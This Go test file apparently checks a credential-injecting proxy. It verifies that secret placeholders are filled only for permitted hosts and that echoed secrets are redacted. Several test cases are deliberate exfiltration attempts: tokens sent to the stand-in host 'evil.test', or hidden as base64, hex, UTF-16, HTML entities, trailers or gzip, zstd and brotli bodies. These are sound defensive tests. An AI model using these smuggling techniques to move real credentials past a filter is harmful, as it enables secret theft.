package secret

import (
	"bytes"
	"compress/gzip"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"testing/iotest"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/flate"
	"github.com/klauspost/compress/zlib"
	"github.com/klauspost/compress/zstd"

	"paddock/internal/fault"
)

// request makes one as a proxy does, with headers by pairs.
func request(method, target, body string, headers ...string) *http.Request {
	u, err := url.Parse(target)
	if err != nil {
		panic(err)
	}
	r := &http.Request{Method: method, URL: u, Header: http.Header{}}
	if body != "" {
		r.Body, r.ContentLength = io.NopCloser(strings.NewReader(body)), int64(len(body))
	}
	for i := 0; i+1 < len(headers); i += 2 {
		r.Header.Add(headers[i], headers[i+1])
	}
	return r
}

// sent is all that a request would send.
func sent(t *testing.T, r *http.Request) string {
	t.Helper()
	text := r.URL.String() + "\n"
	for name, values := range r.Header {
		text += name + ": " + strings.Join(values, ", ") + "\n"
	}
	if r.Body != nil {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return text + "ERROR " + err.Error()
		}
		if r.ContentLength >= 0 && int64(len(body)) != r.ContentLength {
			t.Errorf("the length is %d, and the body has %d", r.ContentLength, len(body))
		}
		text += string(body)
	}
	return text
}

// session is one with a few secrets.
type session struct {
	*Store
	*Engine
	vars map[string]string
}

func newSession(t *testing.T) session {
	s := opened(t)
	set(t, s, "local", "TOKEN", token, []string{"api.example.com", "*.example.org:8443"}, nil)
	set(t, s, "local", "BODY", `a"b\c&d<e>`+"\u00e9 fgh", []string{"api.example.com", "http://plain.example.com"}, []string{"body", "header:Cookie"})
	set(t, s, "local", "QUERY", "a b&c=d/efg", []string{"GET api.example.com/maps/*"}, []string{"query:key"})
	set(t, s, "local", "LINES", "one line\nand another", []string{"api.example.com"}, []string{"basic", "body"})
	vars := give(t, s, GrantRequest{Session: "s1", Owner: "local", Names: []string{"TOKEN", "BODY", "QUERY", "LINES"}})
	return session{s, s.Engine("s1"), vars}
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestValuesArePutInWhereTheyMayStand(t *testing.T) {
	s := newSession(t)
	tok, body, query, lines := s.vars["TOKEN"], s.vars["BODY"], s.vars["QUERY"], s.vars["LINES"]
	for about, c := range map[string]struct {
		r    *http.Request
		want string
	}{
		"bearer":       {request("GET", "https://api.example.com/", "", "Authorization", "Bearer "+tok), "Authorization: Bearer " + token},
		"another":      {request("GET", "https://x.example.org:8443/", "", "X-Api-Key", tok), "X-Api-Key: " + token},
		"twice":        {request("GET", "https://api.example.com/", "", "X-Key", tok+","+tok), "X-Key: " + token + "," + token},
		"basic":        {request("GET", "https://api.example.com/", "", "Authorization", "Basic "+b64("me:"+tok)), "Authorization: Basic " + b64("me:"+token)},
		"lines":        {request("GET", "https://api.example.com/", "", "Authorization", "basic "+strings.TrimRight(b64(lines+":x"), "=")), b64("one line\nand another:x")},
		"a cookie":     {request("GET", "http://plain.example.com/", "", "Cookie", "a=1; k="+body), `k=a"b\c`},
		"JSON":         {request("POST", "https://api.example.com/", `{"k":"`+body+`"}`, "Content-Type", "application/json; charset=utf-8", "Content-Length", "1"), `{"k":"a\"b\\c&d<e>é fgh"}`},
		"JSON, lines":  {request("POST", "https://api.example.com/", `{"k":"`+lines+`"}`, "Content-Type", "application/x+json"), `{"k":"one line\nand another"}`},
		"a form":       {request("POST", "http://plain.example.com/", "a=1&k="+body+"&z=2", "Content-Type", "application/x-www-form-urlencoded"), "a=1&k=a%22b%5Cc%26d%3Ce%3E%C3%A9+fgh&z=2"},
		"XML":          {request("POST", "https://api.example.com/", "<a>"+body+"</a>", "Content-Type", "text/xml"), "<a>a&#34;b\\c&amp;d&lt;e&gt;é fgh</a>"},
		"text":         {request("POST", "https://api.example.com/", body+body, "Content-Type", "text/plain"), `a"b\c&d<e>é fgha"b\c&d<e>é fgh`},
		"a query":      {request("GET", "https://api.example.com/maps/1?z=%41&key="+query+"&y", ""), "/maps/1?z=%41&key=a+b%26c%3Dd%2Fefg&y"},
		"nothing":      {request("GET", "https://elsewhere.test/?a=%2&b;c", "text", "X-A", "b"), "https://elsewhere.test/?a=%2&b;c"},
		"its encoding": {request("GET", "https://api.example.com/", "", "Accept-Encoding", "compress, gzip;q=0.5, br", "Range", "bytes=1-2"), "Accept-Encoding: gzip;q=0.5, br\n"},
	} {
		if err := s.Request(c.r); err != nil {
			t.Errorf("%s: %v", about, err)
			continue
		}
		switch got := sent(t, c.r); {
		case !strings.Contains(got, c.want):
			t.Errorf("%s: it sends: got = %q, want %q in it", about, got, c.want)
		case strings.Contains(got, Marker):
			t.Errorf("%s: it sends: got = %q, want no %q in it", about, got, Marker)
		case strings.Contains(got, "Range"):
			t.Errorf(`%s: it sends: got = %q, want no "Range" in it`, about, got)
		}
	}
}

func compressed(t *testing.T, coding, text string) string {
	t.Helper()
	var b bytes.Buffer
	var w io.WriteCloser
	switch coding {
	case "gzip":
		w = gzip.NewWriter(&b)
	case "deflate":
		w = zlib.NewWriter(&b)
	case "raw deflate":
		w, _ = flate.NewWriter(&b, 6)
	case "br":
		w = brotli.NewWriter(&b)
	case "zstd":
		w, _ = zstd.NewWriter(&b)
	}
	_, _ = io.WriteString(w, text)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestAPlaceholderGoesNowhereElse is attacks 44, 46 and 47.
func TestAPlaceholderGoesNowhereElse(t *testing.T) {
	s := newSession(t)
	tok := s.vars["TOKEN"]
	for about, r := range misplaced(t, s) {
		text := ""
		if r.Body != nil {
			all, _ := io.ReadAll(r.Body)
			text = string(all)
		}
		for _, split := range []bool{false, true} {
			r := r.Clone(t.Context())
			switch {
			case text == "" && split:
				continue
			case split:
				r.Body, r.ContentLength = io.NopCloser(iotest.OneByteReader(strings.NewReader(text))), -1
			case text != "":
				r.Body = io.NopCloser(strings.NewReader(text))
			}
			err := s.Request(r)
			if err == nil && r.Body != nil {
				var out []byte
				out, err = io.ReadAll(r.Body)
				if bytes.Contains(out, []byte(Marker)) {
					t.Errorf("%s: it is sent: %q", about, out)
				}
			}
			wantRefused(t, fmt.Sprintf("%s (split: %v)", about, split), err, token, tok)
		}
	}
}

// misplaced are requests that have a placeholder, or a form of it, where it may not be.
func misplaced(t *testing.T, s session) map[string]*http.Request {
	t.Helper()
	tok, body, query := s.vars["TOKEN"], s.vars["BODY"], s.vars["QUERY"]
	other := give(t, s.Store, GrantRequest{Session: "s2", Owner: "local", Names: []string{"TOKEN"}})["TOKEN"]
	wide := strings.Join(strings.Split(tok, ""), "\x00")
	jsonText, _ := json.Marshal(strings.ReplaceAll(tok, "p", "\u0070"))
	at := "https://api.example.com/"
	trailed := request("POST", at, "text")
	trailed.Trailer = http.Header{"X-After": {tok}}
	named := request("POST", at, "text")
	named.Trailer = http.Header{http.CanonicalHeaderKey(tok): nil}
	guess := tok[:len(tok)-1] + "A"
	if guess == tok {
		guess = tok[:len(tok)-1] + "B"
	}
	return map[string]*http.Request{
		"another host":              request("GET", "https://evil.test/", "", "Authorization", "Bearer "+tok),
		"a host below":              request("GET", "https://x.api.example.com/", "", "X-Key", tok),
		"another port":              request("GET", "https://api.example.com:8443/", "", "X-Key", tok),
		"without TLS":               request("GET", "http://api.example.com/", "", "X-Key", tok),
		"basic, another host":       request("GET", "https://evil.test/", "", "Authorization", "Basic "+b64("u:"+tok)),
		"basic, not declared":       request("GET", at, "", "Authorization", "Basic "+b64("u:"+body)),
		"the path":                  request("GET", at+tok, ""),
		"the path, escaped":         request("GET", at+"%70addock%2dsecret%2DX", ""),
		"the host's name":           request("GET", "https://"+strings.ToLower(strings.ReplaceAll(tok, "_", "-"))+".api.example.com/", ""),
		"a user":                    request("GET", "https://u:"+tok+"@api.example.com/", ""),
		"a header's name":           request("GET", at, "", tok, "x"),
		"a cookie":                  request("GET", at, "", "Cookie", "a="+tok),
		"the referer":               request("GET", at, "", "Referer", "https://a.test/?"+tok),
		"a query":                   request("GET", at+"?a="+tok, ""),
		"another parameter":         request("GET", at+"maps/1?other="+query, ""),
		"a parameter's name":        request("GET", at+"maps/1?"+query+"=key", ""),
		"another method":            request("POST", at+"maps/1?key="+query, ""),
		"another path":              request("GET", at+"other?key="+query, ""),
		"a body":                    request("POST", at, "text "+tok),
		"a body, another host":      request("POST", "https://evil.test/", body),
		"another session's":         request("GET", at, "", "X-Key", other),
		"a guess":                   request("GET", at, "", "X-Key", guess),
		"a part":                    request("GET", at, "", "X-Key", tok[:len(tok)-1]),
		"base64 in a header":        request("GET", at, "", "X-Key", b64(tok)),
		"base64 in another scheme":  request("GET", at, "", "Authorization", "Bearer "+b64("a"+tok)),
		"base64 in a body":          request("POST", at, "x"+b64("ab"+tok)),
		"base32 in a body":          request("POST", at, base32.StdEncoding.EncodeToString([]byte(tok))),
		"hex":                       request("POST", at, strings.ToUpper(hex.EncodeToString([]byte(tok)))),
		"UTF-16":                    request("POST", at, wide),
		"JSON":                      request("POST", at, strings.Replace(string(jsonText), "paddock", `p\u0061ddock`, 1)),
		"a form":                    request("POST", at, "a=paddock%2Dsecret%2DTOKEN"),
		"HTML":                      request("POST", at, "&#112;addock-secret-TOKEN"),
		"capitals":                  request("POST", at, strings.ToUpper(tok)),
		"what follows the body":     trailed,
		"the name of what follows":  named,
		"gzip":                      request("POST", at, compressed(t, "gzip", body), "Content-Encoding", "gzip"),
		"gzip that no header names": request("POST", at, compressed(t, "gzip", body)),
		"zstd":                      request("POST", at, compressed(t, "zstd", body)),
		"brotli":                    request("POST", at, compressed(t, "br", "text "+body), "Content-Encoding", "br"),
		"deflate":                   request("POST", at, compressed(t, "raw deflate", body), "Content-Encoding", "deflate"),
		"twice":                     request("POST", at, compressed(t, "zstd", compressed(t, "gzip", body)), "Content-Encoding", "gzip, zstd"),
		"said to be encoded":        request("POST", at, body, "Content-Encoding", "gzip"),
	}
}

func TestABodyIsFilledHoweverItIsSplit(t *testing.T) {
	s := newSession(t)
	text := "paddock-secre" + s.vars["BODY"] + "paddock-" + s.vars["LINES"] + s.vars["BODY"] + "\npaddock-secret"
	want := strings.NewReplacer(s.vars["BODY"], `a"b\c&d<e>é fgh`, s.vars["LINES"], "one line\nand another").Replace(text)
	for about, wrap := range map[string]func(io.Reader) io.Reader{"whole": func(r io.Reader) io.Reader { return r }, "bytes": iotest.OneByteReader, "halves": iotest.HalfReader, "EOF": iotest.DataErrReader} {
		r := request("POST", "https://api.example.com/", text)
		r.Body, r.ContentLength = io.NopCloser(wrap(strings.NewReader(text))), -1
		if err := s.Request(r); err != nil {
			t.Fatal(err)
		}
		got, err := io.ReadAll(iotest.HalfReader(r.Body))
		if err != nil {
			t.Errorf("%s: got error %v, want none", about, err)
		} else if string(got) != want {
			t.Errorf("%s: got %q, want %q", about, string(got), want)
		}
		if err := r.Body.Close(); err != nil {
			t.Error(err)
		}
	}
	large := strings.Repeat("x", maxWhole) + s.vars["BODY"]
	r := request("POST", "https://api.example.com/", large)
	switch err := s.Request(r); {
	case err != nil:
		t.Errorf("a large body: %v", err)
	case r.ContentLength != -1:
		t.Errorf("a large body: r.ContentLength = %v, want -1", r.ContentLength)
	}
	if got := sent(t, r); !strings.HasSuffix(got, "é fgh") {
		t.Errorf(`a large body: it sends %d bytes that end with %q, want suffix "é fgh"`, len(got), got[max(0, len(got)-20):])
	}
	r = request("POST", "https://evil.test/", large[:maxWhole+5])
	switch err := s.Request(r); {
	case err != nil:
		t.Errorf("a large body into which nothing is put: %v", err)
	case r.ContentLength != maxWhole+5:
		t.Errorf("a large body into which nothing is put: r.ContentLength = %v, want %v",
			r.ContentLength, maxWhole+5)
	}
	if got := sent(t, r); !strings.HasSuffix(got, "xxpaddo") {
		t.Errorf(`a large body into which nothing is put: it sends %d bytes that end with %q, want suffix "xxpaddo"`,
			len(got), got[max(0, len(got)-20):])
	}
}

// TestForkRevokeRotate is attack 47.
func TestForkRevokeRotate(t *testing.T) {
	s := newSession(t)
	tok := s.vars["TOKEN"]
	ask := func(e *Engine, placeholder string) (string, error) {
		r := request("GET", "https://api.example.com/", "", "X-Key", placeholder)
		err := e.Request(r)
		return r.Header.Get("X-Key"), err
	}
	r := request("GET", "https://api.example.com/", "", "X-Key", tok)
	is(t, s.Store.Engine("s1").RestrictTo([]string{"BODY"}).Request(r), fault.Denied, "not among those that sessions may have here now")
	if text := echoed(t, s.Store.Engine("s1").RestrictTo(nil), token, "", 0); text != tok {
		t.Errorf("of a secret that it may not have any more it is told %q", text)
	}
	fork := s.Store.Engine("fork")
	_, err := ask(fork, tok)
	is(t, err, fault.Denied, "was not given")
	vars := give(t, s.Store, GrantRequest{Session: "fork", Owner: "local", Names: []string{"BODY"}, From: "s1"})
	if _, err := ask(fork, tok); err == nil {
		t.Error("a fork that was given another secret: got no error, want one")
	} else if vars["BODY"] == s.vars["BODY"] {
		t.Errorf(`a fork that was given another secret: vars["BODY"] = %q, want another`, vars["BODY"])
	}
	vars = give(t, s.Store, GrantRequest{Session: "fork", Owner: "local", Names: []string{"TOKEN"}, From: "s1"})
	for _, placeholder := range []string{tok, vars["TOKEN"]} {
		if got, err := ask(fork, placeholder); got != token {
			t.Errorf("a fork that was given it sends %q, %v", got, err)
		}
	}
	_, err = ask(s.Engine, vars["TOKEN"])
	is(t, err, fault.Denied, "was not given") // the fork's is not the other's
	if v := give(t, s.Store, GrantRequest{Session: "copy", Owner: "local", Names: []string{"TOKEN"}}); v["TOKEN"] == tok {
		t.Error("two sessions have one placeholder")
	}
	_, err = ask(s.Store.Engine("copy"), tok)
	is(t, err, fault.Denied, "was not given")

	set(t, s.Store, "local", "TOKEN", "rotated-value", nil, nil)
	if got, err := ask(s.Engine, tok); got != "rotated-value" {
		t.Errorf("after rotation it sends %q, %v", got, err)
	}
	if text := echoed(t, s.Engine, token+" rotated-value", "", 0); text != tok+" "+tok {
		t.Errorf("after rotation it is told %q", text)
	}
	if err := s.Remove("local", "TOKEN"); err != nil {
		t.Fatal(err)
	}
	_, err = ask(s.Engine, tok)
	is(t, err, fault.Denied, "TOKEN was removed")
	if text := echoed(t, s.Engine, token+" rotated-value", "", 0); text != tok+" "+tok {
		t.Errorf("after it was removed it is told %q", text)
	}
	set(t, s.Store, "local", "TOKEN", token, []string{"api.example.com"}, nil)
	_, err = ask(s.Engine, tok)
	is(t, err, fault.Denied, "TOKEN was removed")
	if v := give(t, s.Store, GrantRequest{Session: "s1", Owner: "local", Names: []string{"TOKEN"}}); v["TOKEN"] == tok {
		t.Error("another secret has the placeholder of one that was removed")
	}
}

// echoed is what is told of an answer; n: in parts of that many bytes.
func echoed(t *testing.T, e *Engine, body, coding string, n int) string {
	t.Helper()
	resp := &http.Response{StatusCode: 200, Header: http.Header{}, Body: io.NopCloser(strings.NewReader(body)), ContentLength: int64(len(body))}
	resp.Header.Set("Content-Length", "1")
	if coding != "" {
		resp.Header.Set("Content-Encoding", coding)
	}
	if n == 1 {
		resp.Body = io.NopCloser(iotest.OneByteReader(resp.Body))
	}
	if err := e.Response(resp); err != nil {
		t.Fatal(err)
	}
	text, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Errorf("%s: %v", coding, err)
	}
	switch err := resp.Body.Close(); {
	case err != nil:
		t.Error(err)
	case resp.ContentLength != -1:
		t.Errorf("resp.ContentLength = %v, want -1: %v", resp.ContentLength, resp.Header)
	case len(resp.Header) > 0:
		t.Errorf("resp.Header = %v, want none: %d", resp.Header, resp.ContentLength)
	}
	return string(text)
}

// TestWhatIsEchoedIsRedacted is attack 45.
func TestWhatIsEchoedIsRedacted(t *testing.T) {
	s := newSession(t)
	tok := s.vars["TOKEN"]
	body := "you said " + token + ", " + url.QueryEscape("a b&c=d/efg") + ", " + b64("user:"+token)
	for _, coding := range []string{"", "gzip", "deflate", "br", "zstd"} {
		for n := range 2 {
			text := body
			if coding != "" {
				text = compressed(t, coding, body)
			}
			got := echoed(t, s.Engine, text, coding, n)
			switch {
			case strings.Contains(got, token):
				t.Errorf("%s: got = %q, want no %q in it", coding, got, token)
			case strings.Contains(got, b64("user:" + token)[8:30]):
				t.Errorf("%s: got = %q, want no %q in it", coding, got, b64("user:" + token)[8:30])
			case !strings.HasPrefix(got, "you said "+tok+", "+s.vars["QUERY"]+", "):
				t.Errorf("%s: got = %q, want prefix %q",
					coding, got, "you said "+tok+", "+s.vars["QUERY"]+", ")
			}
		}
	}
	if got := echoed(t, s.Engine, compressed(t, "br", compressed(t, "raw deflate", body)), "deflate, br", 0); strings.Contains(got, token) {
		t.Errorf("got %q, want no %q in it", got, token)
	} else if !strings.Contains(got, tok) {
		t.Errorf("got %q, want %q in it", got, tok)
	}
	resp := &http.Response{Header: http.Header{
		"Location": {"https://evil.test/?t=" + url.QueryEscape("a b&c=d/efg")}, "Set-Cookie": {"a=b", "t=" + token + "; Secure"}, "X-" + http.CanonicalHeaderKey(token): {"a"}, token: {"x"},
	}, Body: http.NoBody}
	if err := s.Response(resp); err != nil {
		t.Fatal(err)
	}
	switch h := resp.Header; {
	case h.Get("Location") != "https://evil.test/?t="+s.vars["QUERY"]:
		t.Errorf("header Location = %q, want %q",
			h.Get("Location"), "https://evil.test/?t="+s.vars["QUERY"])
	case h["Set-Cookie"][1] != "t="+tok+"; Secure":
		t.Errorf(`h["Set-Cookie"][1] = %q, want %q`, h["Set-Cookie"][1], "t="+tok+"; Secure")
	case len(h) != 2:
		t.Errorf("len(h) = %d, want 2: %+v", len(h), h)
	}
	odd := &http.Response{Header: http.Header{"Content-Encoding": {"compress"}}, Body: io.NopCloser(strings.NewReader("x"))}
	is(t, s.Response(odd), fault.Unavailable, `encoded as "compress"`)
	none := &http.Response{Header: http.Header{"Content-Encoding": {"gzip"}}, Body: io.NopCloser(strings.NewReader("x"))}
	if err := s.Store.Engine("unknown").Response(none); err != nil {
		t.Errorf("a session without secrets: got error %v, want none", err)
	} else if none.Header.Get("Content-Encoding") == "" {
		t.Error("a session without secrets: header Content-Encoding is empty, want some")
	}
	head := &http.Response{Header: http.Header{"Content-Encoding": {"gzip"}}, Body: io.NopCloser(strings.NewReader("")), Request: &http.Request{Method: "HEAD"}}
	if err := s.Response(head); err != nil {
		t.Errorf("an answer to HEAD: got error %v, want none", err)
	} else if head.Header.Get("Content-Encoding") == "" {
		t.Error("an answer to HEAD: header Content-Encoding is empty, want some")
	}
}

// FuzzRequest has {} stand for a placeholder. To a host that the secret is not for neither
// that nor the value goes, and to the one that it is for the value in a header alone.
func FuzzRequest(f *testing.F) {
	f.Add("text", "a=b", "value")
	f.Add("{}", "key={}", "Bearer {}")
	f.Add("a{}%7B", "a={}&b=%7b%7D", "Basic {}")
	f.Add("\x1f\x8b\x08{}", "{};{}", "{}, {}")
	s := opened(f)
	set(f, s, "local", "TOKEN", token, []string{"api.example.com"}, nil)
	placeholder := give(f, s, GrantRequest{Session: "s", Owner: "local", Names: []string{"TOKEN"}})["TOKEN"]
	f.Fuzz(func(t *testing.T, body, query, header string) {
		filled := strings.NewReplacer("{}", placeholder)
		for _, host := range []string{"api.example.com", "evil.test"} {
			r := request("POST", "https://"+host+"/", filled.Replace(body), "X-A", filled.Replace(header))
			r.URL.RawQuery = filled.Replace(query)
			before := r.URL.RawQuery
			if err := s.Engine("s").Request(r); err != nil {
				continue
			}
			all := sent(t, r)
			if r.URL.RawQuery != before {
				t.Errorf("%s is sent: r.URL.RawQuery = %q, want %q", host, r.URL.RawQuery, before)
			} else if strings.Contains(strings.ToLower(all), Marker) {
				t.Errorf("%s is sent: strings.ToLower(all) = %q, want no %q in it", host, strings.ToLower(all), Marker)
			}
			if all = strings.Replace(all, filledBy(filled.Replace(header), placeholder), "", 1); strings.Contains(all, token) && !strings.Contains(body+query+header, token) {
				t.Errorf("%s is sent the value: %q", host, all)
			}
		}
	})
}

// filledBy is a header as the host is to have it.
func filledBy(header, placeholder string) string {
	return "X-A: " + strings.ReplaceAll(header, placeholder, token)
}

// HTTP/2 closes a request's body while it is read.
func TestABodyIsClosedWhileItIsRead(t *testing.T) {
	s := newSession(t)
	for range 50 {
		r := request("POST", "https://api.example.com/", "a", "Content-Encoding", "gzip")
		in, out := io.Pipe()
		r.Body, r.ContentLength = in, -1
		if err := s.Engine.Request(r); err != nil {
			t.Fatal(err)
		}
		var both sync.WaitGroup
		both.Go(func() { _, _ = io.Copy(io.Discard, r.Body) })
		both.Go(func() { _, _ = out.Write([]byte("\x1f\x8b")); _, _ = out.Write([]byte("\x08\x00 and more")) })
		r.Body.Close()
		both.Wait()
	}
}

// A value that a host was sent may come back in parts after it was rotated or removed, and
// after the host is none of the secret's any more.
func TestWhatAHostMayStillKnowIsNotAskedForInParts(t *testing.T) {
	for about, change := range map[string]func(s session) error{
		"nothing":     func(session) error { return nil },
		"removed":     func(s session) error { return s.Remove("local", "TOKEN") },
		"all removed": func(s session) error { return s.Store.Forget("s1") },
		"given no more": func(s session) error {
			_, err := s.Grant(GrantRequest{Session: "s1", Owner: "local", Names: []string{"QUERY"}})
			return err
		},
		"for others": func(s session) error {
			_, err := s.Set(Entry{Owner: "local", Name: "TOKEN", Hosts: []string{"new.example.com"}}, NewValue([]byte(token)))
			return err
		},
		"another, for others": func(s session) error {
			_, err := s.Set(Entry{Owner: "local", Name: "TOKEN", Hosts: []string{"new.example.com"}}, NewValue([]byte("another-value")))
			return err
		},
	} {
		s := newSession(t)
		parts := func(target string) string {
			r := request("GET", target, "", "Range", "bytes=1-9", "If-Range", `"a"`, "Accept-Encoding", "gzip")
			if err := s.Request(r); err != nil {
				t.Fatalf("%s: %v", about, err)
			}
			return r.Header.Get("Range") + r.Header.Get("If-Range")
		}
		if got := parts("https://x.example.org:8443/"); got != "" {
			t.Errorf("%s: before it sends %q", about, got)
		}
		if err := change(s); err != nil {
			t.Fatal(err)
		}
		for range 2 {
			if got := parts("https://x.example.org:8443/"); got != "" {
				t.Errorf("%s: it sends %q", about, got)
			}
		}
		if got := parts("https://elsewhere.test/"); got == "" {
			t.Errorf("%s: no parts can be asked for where no value may be", about)
		}
		resp := &http.Response{Header: http.Header{}, Body: io.NopCloser(strings.NewReader("it is " + token))}
		if err := s.Response(resp); err != nil {
			t.Fatal(err)
		}
		if text, err := io.ReadAll(resp.Body); err != nil {
			t.Errorf("%s: got error %v, want none", about, err)
		} else if strings.Contains(string(text), token) {
			t.Errorf("%s: text = %q, want no %q in it", about, string(text), token)
		}
	}
}

// wantRefused checks that err is a refusal with a hint, and names none of these.
func wantRefused(t *testing.T, about string, err error, hidden ...string) {
	t.Helper()
	if err == nil {
		t.Errorf("%s: it is let out, want it refused", about)
		return
	}
	f := fault.Of(err)
	if f.Kind != fault.Denied {
		t.Errorf("%s: got an error of the kind %q, want %q: %v", about, f.Kind, fault.Denied, err)
	}
	if f.Hint == "" {
		t.Errorf("%s: the refusal %v has no hint, want one", about, err)
	}
	for _, h := range hidden {
		if strings.Contains(f.Message+f.Hint, h) {
			t.Errorf("%s: the error says %q, %q, want no %q in it", about, f.Message, f.Hint, h)
		}
	}
}
